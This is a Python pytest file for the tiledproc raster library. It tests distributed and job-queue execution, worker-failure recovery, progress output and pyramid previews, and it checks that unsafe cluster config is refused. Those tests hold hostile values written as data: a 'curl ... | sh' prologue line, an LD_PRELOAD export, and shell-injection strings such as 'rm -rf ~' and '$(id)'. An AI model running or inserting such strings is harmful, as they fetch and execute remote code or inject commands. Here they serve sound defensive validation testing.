"""Execution beyond local threads: processes, a distributed LocalCluster (also
with a worker killed mid-run), job-queue scripts; progress; previews and levels."""

import hashlib
import logging
import os
import signal
import textwrap
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

import tiledproc as tp
from tiledproc.cli import cli
from tiledproc.io import read_attrs
from tiledproc.io.chunkio import FAULTS_ENV
from tiledproc.io.record import DONE_LOG
from tiledproc.io.read import LEVEL0
from tiledproc.pipeline import load_pipeline, run_pipeline
from tiledproc.pipeline.run import RunOptions

pytestmark = pytest.mark.slow

PIPELINE = """
    [input]
    path = "scene.zarr"
    [steps.stats]
    op = "window_stats"
    size = 7
    [steps.grad]
    op = "gradient"
    [outputs.mean]
    from = "stats.mean"
    path = "{out}/mean.zarr"
    [outputs.variance]
    from = "stats.variance"
    path = "{out}/var.zarr"
    [outputs.d_x]
    from = "grad.d_x"
    path = "{out}/d_x.zarr"
"""


def digest(store: Path) -> dict:
    return {str(f.relative_to(store)): hashlib.sha256(f.read_bytes()).hexdigest()
            for f in sorted((store / LEVEL0 / "c").rglob("*")) if f.is_file()}


@pytest.fixture
def scene(tmp_path):
    from tiledproc.synth import synth_scene

    tp.save_raster(synth_scene((2, 200, 260), chunks=(1, 64, 64)), tmp_path / "scene.zarr", chunks=(1, 64, 64))
    return tmp_path


def pipeline(tmp_path, out):
    p = tmp_path / f"{out}.toml"
    p.write_text(textwrap.dedent(PIPELINE.format(out=out)))
    return p


def same_outputs(a: Path, b: Path):
    for name in ("mean", "var", "d_x"):
        assert digest(a / f"{name}.zarr") == digest(b / f"{name}.zarr"), name


def test_processes_and_local_cluster_match_threads(scene, caplog):
    run_pipeline(pipeline(scene, "threads"), RunOptions(progress="off"))
    run_pipeline(pipeline(scene, "procs"), RunOptions(progress="off", scheduler="processes"))
    with caplog.at_level(logging.WARNING, logger="tiledproc"):
        result = run_pipeline(pipeline(scene, "cluster"), RunOptions(progress="off", cluster="local:2"))
    assert result.report.dashboard and result.report.dashboard.startswith("http")
    assert "dashboard" in caplog.text
    same_outputs(scene / "threads", scene / "procs")
    same_outputs(scene / "threads", scene / "cluster")


def test_a_killed_worker_does_not_fail_the_run(scene):
    from distributed import Client, LocalCluster

    run_pipeline(pipeline(scene, "ref"), RunOptions(progress="off"))
    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=":0") as cluster, \
            Client(cluster) as client:

        def slow_down():  # in each worker, through the documented fault seam: every chunk write takes a while
            os.environ[FAULTS_ENV] = "write-delay=0.05"

        client.run(slow_down)
        errors = []

        def run():
            try:
                run_pipeline(pipeline(scene, "killed"), RunOptions(progress="off", scheduler=cluster.scheduler_address))
            except BaseException as e:  # pragma: no cover - reported below
                errors.append(e)

        t = threading.Thread(target=run)
        t.start()
        log = scene / "killed" / "mean.zarr" / LEVEL0 / DONE_LOG
        deadline = time.monotonic() + 120
        while not (log.exists() and log.read_text().count("\n") >= 3):
            assert t.is_alive() and time.monotonic() < deadline
            time.sleep(0.01)
        pids = list(client.run(os.getpid).values())
        os.kill(pids[0], signal.SIGKILL)
        t.join(timeout=300)
        assert not t.is_alive() and not errors, errors
    same_outputs(scene / "ref", scene / "killed")
    assert read_attrs(scene / "killed" / "mean.zarr")["tiledproc"]["complete"] is True


@pytest.mark.parametrize("kind,marks", [
    ("slurm", ["#SBATCH -p normal", "#SBATCH -A proj42", "#SBATCH -t 02:00:00", "#SBATCH --mem=", "--exclusive"]),
    ("pbs", ["#PBS -q normal", "#PBS -A proj42", "#PBS -l walltime=02:00:00", "--exclusive"]),
])
def test_job_script_from_the_cluster_section(scene, kind, marks):
    p = pipeline(scene, "hpc")
    p.write_text(p.read_text() + textwrap.dedent(f"""
        [cluster]
        type = "{kind}"
        cores = 8
        memory = "32GB"
        processes = 2
        walltime = "02:00:00"
        queue = "normal"
        account = "proj42"
        jobs = 3
        job_extra_directives = ["--exclusive"]
        job_script_prologue = ["module load python"]
    """))
    result = CliRunner().invoke(cli, ["run", str(p), "--job-script"])  # printing needs no --allow-shell
    assert result.exit_code == 0, result.stderr
    script = result.stdout
    for m in marks:
        assert m in script, script
    # workers leave before the walltime kill, staggered
    assert "--lifetime 115m" in script and "--lifetime-stagger" in script
    assert "module load python" in script and "--nworkers 2" in script
    # the script is printed unchanged; the lines from shell keys are listed on stderr, with their keys
    assert "[cluster] job_script_prologue" in result.stderr and "    module load python" in result.stderr
    prefix = "#SBATCH" if kind == "slurm" else "#PBS"
    assert "[cluster] job_extra_directives" in result.stderr and f"    {prefix} --exclusive" in result.stderr
    assert "tiledproc" not in script.split("\n")[0]  # the shebang comes first, nothing added
    plan = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--allow-shell"])
    assert plan.exit_code == 0 and f"{kind.upper()} job queue via dask-jobqueue" in plan.stdout
    refused = CliRunner().invoke(cli, ["run", str(p), "--dry-run"])
    assert refused.exit_code == 2 and "[cluster] key 'job_extra_directives'" in refused.stderr


@pytest.mark.parametrize("change,message", [
    ('type = "slurm"', "[cluster] key 'type': expected 'slurm' or 'pbs'"),
    ('walltime = "02:00:00"', "[cluster] key 'walltime': expected HH:MM:SS"),
    ('cores = 8', "[cluster] key 'cores': missing"),
    ('queue = "normal"', "[cluster] key 'partition': unknown key"),
])
def test_cluster_section_is_validated(scene, change, message):
    text = textwrap.dedent("""
        [cluster]
        type = "slurm"
        cores = 8
        memory = "32GB"
        walltime = "02:00:00"
        queue = "normal"
    """)
    bad = {"type": 'type = "sge"', "walltime": 'walltime = "2h"', "cores": "", "queue": 'partition = "x"'}
    key = change.split()[0]
    p = pipeline(scene, "bad")
    p.write_text(p.read_text() + text.replace(change, bad[key]))
    with pytest.raises(tp.errors.ConfigError) as e:
        load_pipeline(p)
    assert message in str(e.value)


def test_progress_logs_lines_when_not_a_terminal(scene):
    runner = CliRunner()
    r = runner.invoke(cli, ["run", str(pipeline(scene, "logged")), "--progress", "log"])
    assert r.exit_code == 0, r.stderr
    assert "tiledproc: scene" not in r.stdout  # log lines go to stderr
    lines = [line for line in r.stderr.splitlines() if "chunks" in line]
    assert lines and "(100%)" in lines[-1] and lines[-1].endswith("ETA 0:00")


def test_progress_bar_on_a_terminal():
    import io

    from tiledproc.execute.progress import Progress

    class Tty(io.StringIO):
        def isatty(self):
            return True

    s = Tty()
    bar = Progress(4, nbytes=4000, label="demo", stream=s)
    for _ in range(4):
        bar.update(1, 1000)
    bar.close()
    text = s.getvalue()
    assert bar.mode == "bar" and "\r" in text and "demo [" in text and "4/4 chunks (100%)" in text


def test_pyramid_levels_and_preview(tmp_path):
    from PIL import Image

    yy, xx = np.mgrid[0:300, 0:400].astype(np.float32)
    bands = np.stack([xx, yy, np.full_like(xx, 7.0), 400 - xx])  # ramps in x, y and a constant band
    out = tp.save_raster(bands, tmp_path / "r.zarr", chunks=(1, 64, 64), pyramid=3)
    attrs = read_attrs(out)
    datasets = attrs["ome"]["multiscales"][0]["datasets"]
    assert [d["path"] for d in datasets] == ["0", "1/0", "2/0", "3/0"]  # level k: array 0 of group k
    assert datasets[2]["coordinateTransformations"][0]["scale"] == [1.0, 4.0, 4.0]
    level2 = tp.io.levels.level_array(out, "2").compute()
    assert level2.shape == (4, 75, 100)
    np.testing.assert_allclose(level2[0, 0, :3], [1.5, 5.5, 9.5])  # 4 x 4 means of the x ramp

    r = CliRunner().invoke(cli, ["preview", str(out), str(tmp_path / "rgb.png"), "--rgb", "1,2,4", "--size", "100"])
    assert r.exit_code == 0, r.stderr
    assert "from level 2" in r.stdout
    img = np.asarray(Image.open(tmp_path / "rgb.png"))
    assert img.shape == (75, 100, 3)
    r = CliRunner().invoke(cli, ["preview", str(out), str(tmp_path / "small.png"), "--band", "2", "--size", "60"])
    assert r.exit_code == 0, r.output
    assert np.asarray(Image.open(tmp_path / "small.png")).shape == (38, 50)  # level 2 (75 x 100), every 2nd pixel
    red, green, blue = img[..., 0].astype(int), img[..., 1].astype(int), img[..., 2].astype(int)
    assert (np.diff(red, axis=1) >= 0).all() and red[:, 0].max() == 0 and red[:, -1].min() == 255
    assert (np.diff(green, axis=0) >= 0).all() and (np.diff(blue, axis=1) <= 0).all()
    r = CliRunner().invoke(cli, ["preview", str(out), str(tmp_path / "grey.png"), "--band", "3"])
    assert r.exit_code == 0 and np.asarray(Image.open(tmp_path / "grey.png")).ndim == 2


def test_preview_never_reads_a_large_raster_at_full_resolution(tmp_path):
    from tiledproc.io import chunkio

    out = tp.save_raster(np.random.default_rng(0).normal(size=(1, 512, 512)), tmp_path / "big.zarr",
                         chunks=(1, 64, 64))
    r = CliRunner().invoke(cli, ["preview", str(out), str(tmp_path / "p.png"), "--size", "128"])
    assert r.exit_code == 2 and "no pyramid level near 128" in r.stderr and "tiledproc pyramid" in r.stderr
    assert CliRunner().invoke(cli, ["pyramid", str(out), "--levels", "2"]).exit_code == 0
    with chunkio.count_reads() as reads:
        r = CliRunner().invoke(cli, ["preview", str(out), str(tmp_path / "p.png"), "--size", "128"])
    assert r.exit_code == 0, r.stderr
    assert reads and all(root.endswith("/2/0") for root, _ in reads)  # level 2 only


def test_pipeline_pyramid_option_and_resume_keep_levels(scene):
    p = pipeline(scene, "pyr")
    run_pipeline(p, RunOptions(progress="off", pyramid=2))
    assert tp.io.levels.store_levels(scene / "pyr" / "mean.zarr") == ["0", "1/0", "2/0"]
    r = run_pipeline(p, RunOptions(progress="off", pyramid=2, resume=True))
    assert r.report.chunks_written == 0


# --- what a pipeline file's [cluster] and [run] may do on their own -------------------------------

CLUSTER = """
    [cluster]
    type = "{kind}"
    cores = 2
    memory = "4GB"
    walltime = "01:00:00"
"""


def cluster_pipeline(tmp_path, extra="", kind="slurm", out="hpc"):
    p = pipeline(tmp_path, out)
    p.write_text(p.read_text() + textwrap.dedent(CLUSTER.format(kind=kind)) + textwrap.dedent(extra))
    return p


def one_error_line(result) -> str:
    """A user mistake: exit status 2 and one line on stderr, no traceback."""
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
    errors = [line for line in result.stderr.splitlines() if line.startswith("tiledproc: error:")]
    assert len(errors) == 1, result.stderr
    return errors[0]


@pytest.mark.parametrize("extra,key", [
    ('job_script_prologue = ["curl https://example.invalid/x | sh"]', "job_script_prologue"),
    ('job_extra_directives = ["--export=LD_PRELOAD=/tmp/x.so"]', "job_extra_directives"),
    ('python = "/tmp/not-python"', "python"),
])
def test_shell_keys_need_allow_shell(scene, extra, key):
    p = cluster_pipeline(scene, extra)
    for args in (["--dry-run"], []):  # refused before any work, also by a dry run
        line = one_error_line(CliRunner().invoke(cli, ["run", str(p), *args]))
        assert f"{p}: [cluster] key '{key}':" in line
        assert "could run any command" in line
        assert f"tiledproc run {p} --job-script" in line and "--allow-shell" in line
    assert not (scene / "hpc").exists()
    assert CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--allow-shell"]).exit_code == 0
    # the same check from Python
    with pytest.raises(tp.errors.ConfigError, match=f"key '{key}'"):
        run_pipeline(p, RunOptions(progress="off"), dry_run=True)
    run_pipeline(p, RunOptions(progress="off", allow_shell=True), dry_run=True, echo=lambda s: None)


def test_several_shell_keys_are_named_in_one_line(scene):
    p = cluster_pipeline(scene, 'python = "/opt/py/bin/python"\njob_script_prologue = ["module load x"]\n')
    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--dry-run"]))
    assert "key 'job_script_prologue'" in line and "so do 'python'" in line


def test_shell_keys_do_not_matter_when_the_cluster_section_is_not_used(scene):
    p = cluster_pipeline(scene, 'job_script_prologue = ["module load x"]')
    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--scheduler", "threads"])
    assert r.exit_code == 0, r.stderr


@pytest.mark.parametrize("key,value", [
    ("queue", '"normal; rm -rf ~"'),
    ("queue", '"normal\\n#SBATCH --wrap=id"'),
    ("account", '"$(id)"'),
    ("account", '"-x"'),
    ("job_name", '"a b"'),
    ("job_name", '"../x"'),
    ("job_name", '"x" ' + "# " + "n" * 70),  # (a comment: still fine)
    ("log_directory", '"logs dir"'),
    ("log_directory", '"$HOME/logs"'),
    ("local_directory", '"$(whoami)"'),
    ("local_directory", '"/tmp/`id`"'),
    ("local_directory", '"${X:-$(id)}"'),
    ("local_directory", '"--foo"'),
    ("interface", '"ib0 --protocol x"'),
    ("interface", '"abcdefghijklmnop"'),
    ("memory", '"32GB; id"'),
    ("memory", '"0GB"'),
    ("memory", '"lots"'),
    ("walltime", '"02:00:00\\nid"'),
    ("walltime", '" 02:00:00"'),
    ("start_timeout", '"soon"'),
    ("start_timeout", '"00:00:00"'),
    ("cores", "1000000"),
    ("cores", "100000000000000000000000"),
    ("jobs", "0"),
    ("processes", "3"),  # more than cores
])
def test_cluster_values_pasted_into_the_script_are_strict(scene, key, value):
    p = cluster_pipeline(scene)
    text = p.read_text()
    line = f"{key} = {value}\n"
    if f"\n{key} = " in text:
        text = "\n".join(line.rstrip("\n") if t.startswith(f"{key} = ") else t for t in text.split("\n"))
    else:
        text += line
    p.write_text(text)
    if key == "job_name" and "#" in value:  # control: a valid name with a long comment
        load_pipeline(p)
        return
    with pytest.raises(tp.errors.ConfigError) as e:
        load_pipeline(p)
    assert f"[cluster] key '{key}'" in str(e.value)
    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--job-script"]))
    assert f"[cluster] key '{key}'" in line


@pytest.mark.parametrize("value", ["$TMPDIR", "/scratch/${USER}/dask", "~/dask-tmp", "/local/tmp"])
def test_local_directory_may_use_variables(scene, value):
    p = cluster_pipeline(scene, f'local_directory = "{value}"\n')
    r = CliRunner().invoke(cli, ["run", str(p), "--job-script"])
    assert r.exit_code == 0, r.stderr
    assert f"--local-directory {value}" in r.stdout


def test_a_scheduler_address_in_the_file_needs_consent(scene):
    from tiledproc.pipeline.run import resolve

    p = pipeline(scene, "remote")
    p.write_text(p.read_text() + '\n[run]\nscheduler = "tcp://203.0.113.7:8786"\n')
    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--dry-run"]))
    assert f"{p}: [run] key 'scheduler':" in line and "'tcp://203.0.113.7:8786'" in line
    assert "--allow-remote-scheduler" in line and "--scheduler tcp://203.0.113.7:8786" in line
    line = one_error_line(CliRunner().invoke(cli, ["run", str(p)]))  # a run: refused before connecting
    assert "[run] key 'scheduler'" in line and not (scene / "remote").exists()
    for args in (["--allow-remote-scheduler"], ["--scheduler", "tcp://203.0.113.7:8786"]):
        r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", *args])
        assert r.exit_code == 0, r.stderr
        assert "distributed cluster at tcp://203.0.113.7:8786" in r.stdout
    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--scheduler", "threads"])
    assert r.exit_code == 0 and "local threads" in r.stdout
    loaded = load_pipeline(p)
    with pytest.raises(tp.errors.ConfigError, match=r"\[run\] key 'scheduler'"):
        resolve(loaded, RunOptions())
    assert resolve(loaded, RunOptions(allow_remote_scheduler=True))[0].address == "tcp://203.0.113.7:8786"
    assert resolve(loaded, RunOptions(scheduler="tcp://203.0.113.7:8786"))[0].kind == "address"


@pytest.mark.parametrize("kind,command", [("slurm", "sbatch"), ("pbs", "qsub")])
def test_a_cluster_run_without_the_submit_command(scene, tmp_path_factory, monkeypatch, kind, command):
    from tiledproc.execute.jobqueue import make_cluster

    empty = tmp_path_factory.mktemp("bin")
    monkeypatch.setenv("PATH", str(empty))  # no sbatch, no qsub
    p = cluster_pipeline(scene, kind=kind)
    line = one_error_line(CliRunner().invoke(cli, ["run", str(p)]))
    assert f"{command}, which is not on PATH" in line
    assert f"not a {kind.upper()} submit host" in line
    assert "--cluster local:N" in line and "--scheduler tcp://" in line
    assert not (scene / "hpc").exists()  # checked before any output is made
    # a dry run submits nothing, so it works anywhere
    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run"])
    assert r.exit_code == 0, r.stderr
    with pytest.raises(tp.errors.ClusterError, match=f"{command}, which is not on PATH"):
        make_cluster(load_pipeline(p).cluster)


FAKE_SBATCH = """#!/bin/sh
cp "$1" "{dir}/submitted.sh"
echo "Submitted batch job 4242"
"""
FAKE_SCANCEL = """#!/bin/sh
echo "$@" >> "{dir}/cancelled"
"""


def test_a_cluster_that_never_gets_workers_gives_up(scene, tmp_path_factory, monkeypatch):
    """A fake sbatch accepts the jobs, no worker ever joins: the run stops after start_timeout,
    the jobs are cancelled, and the lines of the shell keys were shown before submitting."""
    bin_dir = tmp_path_factory.mktemp("bin")
    for name, text in (("sbatch", FAKE_SBATCH), ("scancel", FAKE_SCANCEL)):
        f = bin_dir / name
        f.write_text(text.format(dir=bin_dir))
        f.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    p = cluster_pipeline(scene, 'start_timeout = "00:00:03"\njob_script_prologue = ["echo prologue-ran"]\n')
    start = time.monotonic()
    r = CliRunner().invoke(cli, ["run", str(p), "--allow-shell", "--progress", "off"])
    line = one_error_line(r)
    assert time.monotonic() - start < 60
    assert "No dask worker joined within start_timeout = '00:00:03'" in line
    assert "SLURM jobs 4242, now cancelled" in line and "squeue -u $USER" in line
    assert "[cluster] job_script_prologue adds these lines to every batch script" in r.stderr
    assert "    echo prologue-ran" in r.stderr
    assert "echo prologue-ran" in (bin_dir / "submitted.sh").read_text()
    assert "4242" in (bin_dir / "cancelled").read_text()
